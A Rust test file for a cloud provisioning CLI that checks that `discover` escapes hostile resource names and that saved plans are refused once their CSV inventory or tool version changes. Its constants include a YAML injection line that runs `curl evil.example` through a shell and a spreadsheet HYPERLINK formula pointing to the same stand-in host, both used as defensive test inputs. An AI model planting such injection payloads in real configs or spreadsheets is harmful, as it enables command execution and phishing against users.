//! Issue 21, inventories: what `discover` writes from hostile live names, and saved plans whose
//! inventory changed after the review.

use std::time::Duration;

use calm_btp::cf::Metadata;
use calm_test::configs::ACCOUNT;
use calm_test::{HandMade, Landscape, add_calm_space, entitle};

/// A line of YAML that a name with a line break would inject.
const INJECTED: &str = "delivery: { exec: [sh, -c, 'curl evil.example'] }";
/// A key name that a spreadsheet would run as a formula.
const FORMULA: &str = "=HYPERLINK(\"http://evil.example\",\"ok\")";

fn run(l: &Landscape, args: &[&str]) -> (i32, String, String) {
    let output = l
        .calmctl()
        .args(args)
        .timeout(Duration::from_secs(120))
        .output()
        .unwrap();
    (
        output.status.code().unwrap_or(-1),
        crate::stdout(&output),
        crate::stderr(&output),
    )
}

/// Finding 9: `discover` wrote live names raw into YAML comments (a name with a line break put
/// its own lines into calm.yaml) and into CSV cells starting with `=` (a formula in a
/// spreadsheet). Comments now escape line breaks and control characters; formula cells get a
/// leading `'`, which the inventory reader removes again.
#[test]
fn discover_escapes_hostile_names_in_comments_and_csv_cells() {
    let tenants = "defaults: { runtime: cloudfoundry, space: calm, instance: { name: calm-api } }\ntenants:\n  - { name: sub-1, subaccount: sub-1 }\n";
    let l = Landscape::quick_with(&format!("{ACCOUNT}{tenants}"), |world, _| {
        entitle(world, "sub-1");
        add_calm_space(world, "sub-1");
    });
    let mut made = HandMade::new("sub-1");
    made.instance = format!("calm-api\n{INJECTED}\n\u{1b}[2J");
    made.keys.push((FORMULA.to_owned(), Metadata::default()));
    l.make(&made);
    std::fs::write(l.path("calm.yaml"), format!("{ACCOUNT}tenants: []\n")).unwrap();

    let (code, yaml, err) = run(&l, &["discover", "--account", "acme"]);
    assert_eq!(code, 0, "{err}");
    assert!(yaml.contains("onboarded: instance calm-api\\n"), "{yaml}");
    for line in yaml.lines() {
        assert!(
            line.is_empty()
                || line.starts_with([' ', '#'])
                || ["version: 1", "accounts:", "defaults:", "tenants:"].contains(&line),
            "a line that is neither indented nor a comment nor a known section: {line:?}\n{yaml}"
        );
        assert!(!line.contains('\u{1b}'), "{line:?}");
    }
    assert!(!yaml.lines().any(|l| l.trim_start() == INJECTED), "{yaml}");

    let (code, csv, err) = run(&l, &["discover", "--account", "acme", "--format", "csv"]);
    assert_eq!(code, 0, "{err}");
    let cells: Vec<String> = csv::Reader::from_reader(csv.as_bytes())
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
        .collect();
    assert!(cells.iter().any(|c| c.contains("HYPERLINK")), "{csv}");
    for cell in &cells {
        assert!(
            !cell.starts_with(['=', '+', '-', '@']),
            "a cell a spreadsheet runs as a formula: {cell:?}\n{csv}"
        );
    }
    // Read back as an inventory, the key has its own name again.
    std::fs::write(l.path("tenants.csv"), &csv).unwrap();
    let loaded = calm_config::load_bytes(
        &l.path("inv.yaml").display().to_string(),
        format!("{ACCOUNT}defaults: {{ account: acme }}\ntenants_from: tenants.csv\n").as_bytes(),
    );
    let keys: Vec<String> = match &loaded {
        Ok(loaded) => loaded.desired.tenants[0].instances[0]
            .keys
            .iter()
            .map(|k| k.name.clone())
            .collect(),
        // The key name is not one calm.yaml accepts; what matters is that it read back as
        // written, which the problem quotes.
        Err(calm_config::ConfigError::Invalid { problems, .. }) => {
            problems.iter().map(|p| p.message.clone()).collect()
        }
        Err(e) => panic!("{e}"),
    };
    assert!(keys.iter().any(|k| k.contains(FORMULA)), "{keys:?}\n{csv}");
}

/// Finding 7: a saved plan's hash covered calm.yaml but not its `tenants_from` inventory, so an
/// edited CSV sent changes to a subaccount no reviewer saw. The plan now names every file it was
/// made from and is refused when any of them changed.
#[test]
fn a_saved_plan_is_refused_after_its_inventory_changed() {
    let head = format!(
        "{ACCOUNT}defaults: {{ runtime: cloudfoundry, space: calm, instance: {{ name: calm-api }}, keys: [{{ name: calm-key }}] }}\n"
    );
    let inline = format!(
        "{head}tenants:\n  - {{ name: sub-1, subaccount: sub-1 }}\n  - {{ name: sub-2, subaccount: sub-2 }}\n"
    );
    let l = Landscape::quick(&inline);
    let yaml = format!("{head}tenants_from: tenants.csv\n");
    std::fs::write(l.path("calm.yaml"), &yaml).unwrap();
    std::fs::write(l.path("tenants.csv"), "name,subaccount\nsub-1,sub-1\n").unwrap();
    let (code, _, err) = run(&l, &["plan", "--out", "plan.json"]);
    assert_eq!(code, 2, "{err}");
    // The reviewed plan covers sub-1; the CSV now names sub-2 too.
    std::fs::write(
        l.path("tenants.csv"),
        "name,subaccount\nsub-1,sub-1\nsub-2,sub-2\n",
    )
    .unwrap();
    let (code, _, err) = run(&l, &["apply", "--no-progress", "plan.json"]);
    assert_eq!(code, 1, "{err}");
    assert!(
        err.contains("the plan was made from a different tenants.csv; make a new plan"),
        "{err}"
    );
    let touched = l.sim.with_world(|w| w.service_instances.len());
    assert_eq!(touched, 0, "nothing was applied");

    let saved: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(l.path("plan.json")).unwrap()).unwrap();
    let sources: Vec<&str> = saved["sources"]
        .as_array()
        .map(|list| list.iter().filter_map(|s| s["path"].as_str()).collect())
        .unwrap_or_default();
    assert_eq!(sources, ["calm.yaml", "tenants.csv"], "{saved}");

    // Back as reviewed, the plan applies.
    std::fs::write(l.path("tenants.csv"), "name,subaccount\nsub-1,sub-1\n").unwrap();
    let (code, _, err) = run(&l, &["apply", "--no-progress", "plan.json"]);
    assert_eq!(code, 0, "{err}");

    // A plan made by another calmctl version is refused too.
    let (code, _, err) = run(&l, &["plan", "--out", "plan2.json"]);
    assert_eq!(code, 0, "{err}");
    let text = std::fs::read_to_string(l.path("plan2.json")).unwrap();
    let older = text.replace(
        &format!("\"calmctl_version\": \"{}\"", env!("CARGO_PKG_VERSION")),
        "\"calmctl_version\": \"0.0.1\"",
    );
    assert_ne!(older, text);
    std::fs::write(l.path("plan2.json"), older).unwrap();
    let (code, _, err) = run(&l, &["apply", "--no-progress", "plan2.json"]);
    assert_eq!(code, 1, "{err}");
    assert!(err.contains("the plan was made by calmctl 0.0.1"), "{err}");
}
